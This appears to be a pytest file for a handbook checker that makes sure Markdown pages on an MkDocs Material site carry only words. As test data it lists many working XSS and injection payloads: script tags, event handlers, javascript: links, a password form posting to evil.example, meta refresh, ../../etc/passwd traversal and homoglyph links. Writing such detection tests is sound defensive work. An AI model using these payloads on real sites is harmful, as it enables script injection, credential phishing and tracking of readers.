"""What a pull request to `docs/` can put on the published site: words. Each page here tries something else.

All are built together, as one site, by MkDocs and Material as they are.
"""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from inforce.engines.conduct import try_handbook
from inforce.problems import Problem, Severity
from inforce.rules.handbook import Neighbours
from inforce.storage.handbook import read_handbook

from tests.sources import Changes, good, project

BESIDE = Neighbours(languages=("en",), policies=("privacy",), titles=("Privacy Policy",), region="BE")
NOW = datetime(2026, 11, 29, tzinfo=UTC)
FOLDER = "docs/handbook"


def told(place: Path) -> tuple[Problem, ...]:
    return try_handbook(place, read_handbook(place), as_of=NOW, beside=BESIDE).problems


def configured(more: str) -> Changes:
    return {"mkdocs.yml": good("mkdocs.yml") + more}


EXTENSIONS = (
    "markdown_extensions: [attr_list, md_in_html, tables, footnotes, def_list, abbr, admonition, pymdownx.details, "
    "pymdownx.superfences, pymdownx.tasklist, pymdownx.critic, pymdownx.keys, pymdownx.mark, pymdownx.highlight, "
    "pymdownx.arithmatex, pymdownx.inlinehilite, pymdownx.magiclink, pymdownx.progressbar, pymdownx.smartsymbols, "
    "pymdownx.tabbed: {alternate_style: true}, toc: {permalink: true}]\n"
)
HOSTILE = {
    # programs
    "script": "<script>alert(1)</script>",
    "script-of-ours": '<script src="../../assets/javascripts/x.js"></script>',
    "script-in-a-sentence": "Some words <script>alert(1)</script> more",
    "script-in-capitals": "<SCRIPT>alert(1)</SCRIPT>",
    "script-of-a-module": '<script type="module">import "//evil.example/x.js"</script>',
    "script-that-is-data": '<script id="__config" type="application/json">{}</script>',
    "handler": '<img src="x.png" onerror="alert(1)">',
    "handler-with-a-slash": "<img/src=x.png/onerror=alert(1)>",
    "handler-on-a-paragraph": "words\n{ onclick=alert(1) }",
    "handler-on-a-heading": "# Words { onmouseover=alert(1) }",
    "handler-on-a-link": "[words](index.md){ onclick=alert(1) }",
    "handler-of-the-page": "<body onload=alert(1)>",
    "handler-of-the-root": "<html onclick=alert(1)>",
    "handler-in-svg": "<svg onload=alert(1)></svg>",
    "program-in-svg": "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "mathematics": '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>',
    "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "link": "[words](javascript:alert(1))",
    "link-with-a-tab": "<a href='java&#9;script:alert(1)'>x</a>",
    "link-with-references": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "link-to-data": "[words](data:text/html,<script>alert(1)</script>)",
    "link-in-a-definition": "[words]\n\n[words]: javascript:alert(1)",
    "link-by-itself": "<javascript:alert(1)>",
    "link-with-capitals": "<a href=' JaVaScRiPt:alert(1)'>x</a>",
    "title-of-a-link": '[words](index.md "&lt;img src=x onerror=alert(1)&gt;")',
    "abbreviation": '<abbr title="&lt;img src=x onerror=alert(1)&gt;">x</abbr>',
    # frames, forms, and what changes the whole page
    "frame": '<iframe src="/en/privacy/"></iframe>',
    "frame-of-words": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="x.pdf"></object>',
    "embedded": '<embed src="x.pdf">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "description": '<meta name="robots" content="noindex">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input type="text" name="password"></form>',
    "field": '<input type="password">',
    "button": '<button formaction="javascript:alert(1)">x</button>',
    "style": "<style>.md-header { display: none }</style>",
    "sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "sheet-of-ours": '<link rel="stylesheet" href="x.css">',
    "template": "<template><script>alert(1)</script></template>",
    "no-script": '<noscript><img src="https://evil.example/x.png"></noscript>',
    "a-second-title": "<title>Privacy policy</title>",
    "text-area": "<textarea></textarea>",
    "plain-text": "<plaintext>",
    "select": "<select><option>x</option></select>",
    "dialog": "<dialog open>x</dialog>",
    "popover": "<div popover id='x'>x</div>",
    "a-new-element": "<permission type=camera></permission>",
    # other hosts
    "picture": "![words](https://evil.example/x.png)",
    "picture-without-a-scheme": "![words](//evil.example/x.png)",
    "picture-with-backslashes": '<img src="\\\\evil.example/x.png">',
    "picture-of-a-set": '<img src="x.png" srcset="x.png 1x, https://evil.example/x.png 2x">',
    "picture-as-a-source": '<picture><source srcset="//evil.example/x.png"><img src="x.png"></picture>',
    "film": '<video poster="https://evil.example/x.png"></video>',
    "sound": '<audio src="https://evil.example/x.mp3" autoplay></audio>',
    "words-under-a-film": '<video><track src="//evil.example/x.vtt"></video>',
    "background": '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
    "style-of-an-element": '<p style="background: u\\72l(https://evil.example/x.png)">x</p>',
    "style-by-a-list": "words\n{ style='background: url(//evil.example/x.png)' }",
    "told-of-clicks": '<a href="x" ping="https://evil.example/">x</a>',
    # what the theme's scripts would take for theirs
    "diagram": '<pre class="mermaid">graph TD</pre>',
    "stars": '<a data-md-component="source" href="https://github.com/a/b">x</a>',
    "configuration": '<div id="__config">{"base": "https://evil.example/"}</div>',
    "configuration-by-a-list": "words\n{ #__config }",
    "clobbered": '<img name="getElementById" src="x.png">',
    # what the theme's rules of style show as its own parts, move or hide
    "dialog-of-the-theme": '<div class="md-dialog md-dialog--active"><div class="md-dialog__inner">x</div></div>',
    "header-of-the-theme": '<div class="md-header">x</div>',
    "toggle-of-the-theme": '<span class="md-toggle">x</span>',
    "banner-of-the-theme": "words\n{ .x .MD-banner }",
    "overlay-of-the-theme": '<label class="x\tmd-overlay">x</label>',
    "class-with-references": '<div class="&#109;d-dialog">x</div>',
    "class-of-permanent-links": '<span class="headerlink">x</span>',
    "class-of-notes": '<b class="footnote-backref">x</b>',
    "class-of-tabs": '<span class="tabbed-block">x</span>',
    "class-that-floats": '<span class="inline end">x</span>',
    "permanent-link-of-words": '## We do <a class="headerlink" href="#x">not</a> sell',
    "way-back-of-words": "We do [not](#x){ .footnote-backref } sell",
    "tab-that-nobody-can-choose": '<div class="tabbed-set"><div class="tabbed-content"><div class="tabbed-block">'
    "x</div></div></div>",
    "anchor-in-code": '<div class="highlight"><code>We do <a id="x">not</a> sell</code></div>',
    "icon-of-words": '<span class="twemoji">x</span>',
    "small-by-and-by": f"{'<small>' * 9}not{'</small>' * 9}",
    "in-a-film": "We do <video>not</video> sell",
    "for-nobody-to-hear": 'We do <b aria-hidden="true">not</b> sell',
    "copied": '<b data-clipboard-text="y">x</b>',
    "numbers-of-lines": '<div class="highlight"><span data-linenos="withdrawn">x</span></div>',
    # what shows words otherwise than they are written, or not at all
    "hidden": "<span hidden>x</span>",
    "hidden-by-a-list": "words\n{ hidden=hidden }",
    "backwards": '<bdo dir="rtl">moc.oifilauq</bdo>',
    "from-the-right": '<p dir="rtl">x</p>',
    "not-in-browsers": "<ruby>x<rp>y</rp></ruby>",
    "white": '<span style="color:white">x</span>',
    "on-black": '<span style="background-color: #000">x</span>',
    "tiny": "words\n{ style='font-size: 1px' }",
    # what browsers mend each in their way
    "not-closed": "<div><img src=x onerror='alert(1)//",
    "a-comment-that-goes-on": "<div>\n\n<!-- a\n\n</div>",
    "a-comment-that-ends-early": "<!--><script>alert(1)</script>-->",
    "a-declaration": "<div><![CDATA[ <script>alert(1)</script> ]]></div>",
    "an-instruction": "<div><?php echo 1 ?></div>",
    "attributes-run-together": '<div class="a"onclick="alert(1)">x</div>',
    "a-note": "words[^1]\n\n[^1]: <script>alert(1)</script>",
    "a-cell": "a | b\n-|-\n<script>alert(1)</script> | c",
    "inside": '<div markdown>\n\n<script>alert(1)</script>\n\n</div>',
    "critic": "{++<script>alert(1)</script>++}",
}  # fmt: skip


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[Problem]]:
    """Every page above in one site: what is told of each."""
    pages: Changes = {f"{FOLDER}/{name}.md": f"First\n\n{text}\n\nLast\n" for name, text in HOSTILE.items()}
    place = project(tmp_path_factory.mktemp("hostile"), {**pages, **configured(EXTENSIONS)})
    found: dict[str, list[Problem]] = {}
    for problem in told(place):
        if problem.severity is Severity.ERROR:
            found.setdefault(problem.location.file, []).append(problem)
    return found


@pytest.mark.parametrize("name", HOSTILE)
def test_a_page_can_bring_words_alone(hostile: dict[str, list[Problem]], name: str) -> None:
    problems = hostile.get(f"{FOLDER}/{name}.md", [])
    assert problems, "this page would be published as it is"
    assert {one.code for one in problems} <= {"H105", "H109"}
    assert problems[0].location.line is not None
    last = 2 + len(HOSTILE[name].splitlines())
    assert 3 <= problems[0].location.line <= last, problems[0]
    assert all(one.remedy.strip() for one in problems)


def test_no_other_page_is_told_of(hostile: dict[str, list[Problem]]) -> None:
    assert hostile.keys() <= {f"{FOLDER}/{name}.md" for name in HOSTILE}


FRONT = {
    "title": 'title: "</title><script>alert(1)</script>"',
    "description": 'description: "\\"><script>alert(1)</script>"',
    "a-picture-as-title": "title: <img src=x onerror=alert(1)>",
    "in-a-list": "tags: [a, <b>]",
    "deep-in-it": "x: {y: [{z: <script>}]}",
    "in-a-name": "<script>: x",
    "template": "template: redirect.html\nlocation: //evil.example/",
}


@pytest.mark.parametrize("name", FRONT)
def test_front_matter_holds_no_markup_and_chooses_no_template(tmp_path: Path, name: str) -> None:
    place = project(tmp_path, {f"{FOLDER}/{name}.md": f"---\nauthor: A\n{FRONT[name]}\n---\n\n# Words\n"})
    (problem,) = told(place)
    assert (problem.code, problem.location.file, problem.location.line) == ("H109", f"{FOLDER}/{name}.md", 3)


LIES = {
    "link": ("[www.qualifio.com](https://evil.example)", "L303"),
    "html": ('Words <a href="https://evil.example">www.qualifio.com</a>', "L303"),
    "letter": ("[privacy@qualifio.com](mailto:evil@example.net)", "L303"),
    "definition": ("[www.qualifio.com][1]\n\n[1]: https://evil.example", "L303"),
    "lookalike": ("[apple](https://www.xn--pple-43d.com)", "X305"),
    "words": ("Qualifi\u043e keeps them", "X305"),
    "turned": ("<a href='https://evil.example'><bdi>com</bdi>.<bdi>qualifio</bdi></a>", "H109"),
    "reference": ("words &#x202e;turned", "X303"),
    "scheme": ("[a](//evil.example)", "H109"),
}


def test_links_and_letters_that_deceive_are_told_at_their_lines(tmp_path: Path) -> None:
    files: Changes = {f"{FOLDER}/{name}.md": f"# Page\n\n{text}\n" for name, (text, _) in LIES.items()}
    found = [one for one in told(project(tmp_path, files)) if one.code != "H106"]
    first = {one.location.file: (one.code, one.location.line) for one in reversed(found)}
    lines = {f"{FOLDER}/{name}.md": (code, 3) for name, (_, code) in LIES.items()}
    assert {path: (code, line and min(line, 3)) for path, (code, line) in first.items()} == lines


POSING = {
    "heading": "# Privacy policy\n\nWords\n",
    "front-matter": "---\ntitle: Privacy Policy\n---\n\n# Words\n",
    "second-heading": "# Words\n\n# *Privacy* Policy\n",
    "html": "# Words\n\n<h1>Privacy&#32;Policy</h1>\n",
    "in-force": "# Our Privacy Policy (in force)\n\nWords\n",
    "reach-us": "# Contact\n\nWords\n",
    "smaller": "# Words\n\n## Privacy Policy\n",
}


def test_a_page_that_has_the_title_of_a_policy_is_to_be_looked_at(tmp_path: Path) -> None:
    files: Changes = {f"{FOLDER}/{name}.md": text for name, text in POSING.items()}
    found = [one for one in told(project(tmp_path, files)) if one.code != "H106"]
    assert {(one.code, one.severity) for one in found} == {("H113", Severity.HINT)}
    assert {one.location.file for one in found} == {f"{FOLDER}/{name}.md" for name in POSING if name != "smaller"}
    assert not [one.message for one in found if "\u00b6" in one.message]


def test_a_link_that_is_called_as_a_policy_and_leads_elsewhere_is_to_be_looked_at(tmp_path: Path) -> None:
    text = "# Words\n\nRead [our privacy policy](https://evil.example/privacy).\n"
    beside = replace(BESIDE, called=(("privacy", "Privacy Policy"),))
    place = project(tmp_path, {f"{FOLDER}/a.md": text})
    found = try_handbook(place, read_handbook(place), as_of=NOW, beside=beside).problems
    told = [(one.code, one.severity, one.location.line) for one in found if one.code != "H106"]
    assert told == [("H114", Severity.HINT, 3)]


def test_a_menu_that_exchanges_two_pages_is_to_be_looked_at(tmp_path: Path) -> None:
    nav = "nav:\n  - Releasing: handbook/a.md\n  - More: handbook/b.md\n  - Same: handbook/c.md\n"
    pages = {f"{FOLDER}/a.md": "# Editing\n", f"{FOLDER}/b.md": "# Releasing\n", f"{FOLDER}/c.md": "# Same\n"}
    place = project(tmp_path, {**pages, f"{FOLDER}/index.md": None, "mkdocs.yml": good("mkdocs.yml") + nav})
    assert [(one.code, one.location.file) for one in told(place) if one.code != "H106"] == [("H113", f"{FOLDER}/a.md")]


def test_numbers_are_read_as_the_policies_write_them(tmp_path: Path) -> None:
    files: Changes = {
        f"{FOLDER}/a.md": "[02 274 48 00](tel:+3222744800)\n",
        f"{FOLDER}/b.md": "[02 274 48 00](tel:+3222744801)\n",
    }
    found = [one for one in told(project(tmp_path, files)) if one.code != "H106"]
    assert [(one.code, one.location.file) for one in found] == [("L303", f"{FOLDER}/b.md")]


ICONS = {
    "template-of-the-computer": "template: ../../../../etc/passwd",
    "icon-of-the-computer": "icon: ../../../../etc/passwd",
    "icon-in-a-list": "x: [{icon: /etc/x}]",
}


@pytest.mark.parametrize("name", ICONS)
def test_front_matter_names_no_template_that_is_looked_for_elsewhere(tmp_path: Path, name: str) -> None:
    place = project(tmp_path, {f"{FOLDER}/{name}.md": f"---\nauthor: A\n{ICONS[name]}\n---\n\n# Words\n"})
    (problem,) = told(place)
    assert (problem.code, problem.location.file, problem.location.line) == ("H109", f"{FOLDER}/{name}.md", 3)


def test_an_icon_that_the_theme_lacks_is_one_problem_at_its_line(tmp_path: Path) -> None:
    text = good("mkdocs.yml").replace("font: false", "font: false\n  icon:\n    logo: material/none")
    place = project(tmp_path, {"mkdocs.yml": text})
    (problem,) = told(place)
    line = text.split("\n").index("    logo: material/none") + 1
    assert (problem.code, problem.severity) == ("H106", Severity.ERROR)
    assert (problem.location.file, problem.location.line) == ("mkdocs.yml", line)
    assert "material/none" in problem.message


def test_one_of_front_matter_is_told_of_a_page(tmp_path: Path) -> None:
    place = project(tmp_path, {f"{FOLDER}/a.md": "---\nicon: material/none\n---\n\n# Words\n"})
    (problem,) = told(place)
    assert (problem.code, problem.location.file) == ("H106", f"{FOLDER}/a.md")


@pytest.mark.parametrize("target", ["none.md", "none.png"])
def test_a_link_to_nowhere_is_told_at_its_line(tmp_path: Path, target: str) -> None:
    pages = {f"{FOLDER}/a.md": f"# Words\n\nNot b.md.\n\n[More]({target}).\n", f"{FOLDER}/b.md": "# Others\n"}
    (problem,) = [one for one in told(project(tmp_path, pages)) if one.code == "H106"]
    assert (problem.location.file, problem.location.line) == (f"{FOLDER}/a.md", 5)
    assert problem.remedy.startswith("Write where it leads, as seen from this page, or take the link out.")


@pytest.mark.parametrize("stop", [KeyError("x"), OSError("x"), SystemExit(1), RecursionError(), TypeError()], ids=repr)
def test_whatever_stops_a_build_is_one_problem(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, stop: BaseException
) -> None:
    def stops(*_: object, **__: object) -> None:
        raise stop

    monkeypatch.setattr("mkdocs.structure.pages.Page.render", stops)
    (problem,) = told(project(tmp_path, {}))
    assert (problem.code, problem.severity) == ("H106", Severity.ERROR)


def test_what_one_build_has_found_is_not_told_of_the_next(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """MkDocs keeps a plugin that wants to know when it starts, for as long as the program runs."""
    place = project(tmp_path, {f"{FOLDER}/a.md": "# Privacy Policy\n\n[x](/en/privacy/v99/)\n"})
    first = try_handbook(place, read_handbook(place), as_of=NOW, beside=BESIDE)
    assert [one.code for one in first.problems] == ["H113"]
    assert [one.path for one in first.links] == ["en/privacy/v99/"]

    def stops(*_: object, **__: object) -> None:
        raise TypeError

    monkeypatch.setattr("mkdocs.structure.pages.Page.render", stops)
    second = try_handbook(place, read_handbook(place), as_of=NOW, beside=BESIDE)
    assert [one.code for one in second.problems] == ["H106"]
    assert second.links == ()


def test_a_handbook_whose_pages_are_all_left_out_is_told(tmp_path: Path) -> None:
    found = told(project(tmp_path, configured('exclude_docs: "*"\n')))
    assert [one.code for one in found if one.code == "H111"] == ["H111"]
    line = good("mkdocs.yml").count("\n") + 1
    assert {one.location.line for one in found if one.code == "H111"} == {line}


TITLES = {
    "as-code": "# Of `</title><script>alert(1)</script>`",
    "in-references": "# Of &lt;/title>&lt;script>alert(1)&lt;/script>",
}


@pytest.mark.parametrize("name", TITLES)
def test_a_heading_does_not_end_the_title_that_is_made_of_it(tmp_path: Path, name: str) -> None:
    """Material takes tags out of titles and then decodes what is left."""
    place = project(tmp_path, {f"{FOLDER}/{name}.md": f"{TITLES[name]}\n\nWords\n"})
    found = {(one.code, one.location.file, one.location.line) for one in told(place)}
    assert found == {("H109", f"{FOLDER}/{name}.md", 1)}


QUOTES = {
    "description": "description: '0;url=https://evil.example/\" http-equiv=\"refresh'",
    "author": "author: 'x\" onclick=\"alert(1)'",
}


@pytest.mark.parametrize("name", QUOTES)
def test_nor_does_it_end_an_attribute(tmp_path: Path, name: str) -> None:
    place = project(tmp_path, {f"{FOLDER}/{name}.md": f"---\n{QUOTES[name]}\n---\n\n# Words\n"})
    (problem,) = told(place)
    assert (problem.code, problem.location.file, problem.location.line) == ("H109", f"{FOLDER}/{name}.md", 2)


def test_front_matter_without_its_lines_is_read_too(tmp_path: Path) -> None:
    place = project(tmp_path, {f"{FOLDER}/a.md": "title: </title><script>alert(1)</script>\n\n# Words\n"})
    (problem,) = told(place)
    assert (problem.code, problem.location.file, problem.location.line) == ("H109", f"{FOLDER}/a.md", 1)


WELCOME = """\
---
title: Words & "more"
description: What is in the “handbook” & who it is for
icon: material/book
hide: [navigation, toc]
status: new
---

# Words { #words .large data-x="1" }

Some *words*, **strong**, `<script>alert(1)</script>` as code, a [link](https://example.org/ "A title"),
<mailto:legal@example.org>, a note[^1], 1 < 2 & 3 > 2, a [page](index.md), ++ctrl+c++, ==marked==, https://example.org/.

~~~html
<script src="https://evil.example/x.js"></script>
~~~

```mermaid
graph TD
```

![a picture](x.png){ width=50% }

| a | b |
|:-:|--:|
| 1 | 2 |

- [x] done
- [ ] to do

Word
:   its meaning

!!! note "A note"
    Words

??? question
    Hidden

=== "One"
    1

=== "Two"
    2

<details open><summary>More</summary>Words</details>

<div class="grid" markdown>

*Words*

</div>

<!-- A comment: don't edit. -->

<p style="text-align: center; padding: 1em" lang='fr'>Mots</p>

<img src="x.png" alt="" style="float: right; width: 30%"> <bdi>words</bdi>

<p dir="auto">\u0643\u0644\u0645\u0627\u062a</p>

[Go on](index.md){ .md-button .md-button--primary }

!!! tip inline end "Beside"
    Words

- [x] done

    === "One"
        1

    === "Two"
        2

<div class="grid cards" markdown>

- One (1)
{ .annotate }

</div>

<video controls src="x.mp4"></video>

*[abc]: An abbreviation

[^1]: The note, with `</title>`.
"""
FEATURES = [
    "announce.dismiss", "content.action.edit", "content.code.annotate", "content.code.copy", "content.code.select",
    "content.footnote.tooltips", "content.tabs.link", "header.autohide", "navigation.expand", "navigation.footer",
    "navigation.indexes", "navigation.instant", "navigation.instant.prefetch", "navigation.instant.progress",
    "navigation.path", "navigation.prune", "navigation.sections", "navigation.tabs", "navigation.tabs.sticky",
    "navigation.top", "navigation.tracking", "search.highlight", "search.share", "search.suggest", "toc.follow",
    "toc.integrate",
]  # fmt: skip
PALETTE = """
  icon: {repo: fontawesome/brands/git-alt}
  palette:
    - {scheme: default, toggle: {icon: material/weather-night, name: Dark}}
    - {scheme: slate, toggle: {icon: material/weather-sunny, name: Light}}"""


@pytest.mark.parametrize("features", [[], FEATURES, ["toc.integrate"], ["navigation.tabs"]], ids=len)
def test_what_a_handbook_is_made_of_is_no_false_alarm(tmp_path: Path, features: list[str]) -> None:
    text = good("mkdocs.yml").replace("font: false", f"font: false\n  features: {features}{PALETTE}")
    more = (
        "copyright: Us\nrepo_url: https://code.example.org/legal\nextra: {social: [{icon: material/book, link: /}]}\n"
    )
    text = text.replace("plugins:\n", "plugins:\n  - search\n  - tags\n  - typeset\n")
    files: Changes = {
        "mkdocs.yml": text + EXTENSIONS + more,
        f"{FOLDER}/a.md": WELCOME,
        f"{FOLDER}/more/b.md": "---\ntags: [one, two]\n---\n# B\n\n## C `code`\n\n## D\n",
        f"{FOLDER}/x.png": b"\x89PNG",
        f"{FOLDER}/x.mp4": b"x",
    }
    assert [str(one) for one in told(project(tmp_path, files)) if one.code != "H106"] == []


def test_of_a_theme_s_own_scripts_none_is_named_here() -> None:
    """What is Material's is known by comparing pages: no list of it can grow old."""
    text = (Path(__file__).parents[2] / "build_tools/inforce/rules/built_pages.py").read_text("utf-8")
    assert not re.search(r"sha(?:256|384|512)|[0-9a-f]{32}", text)
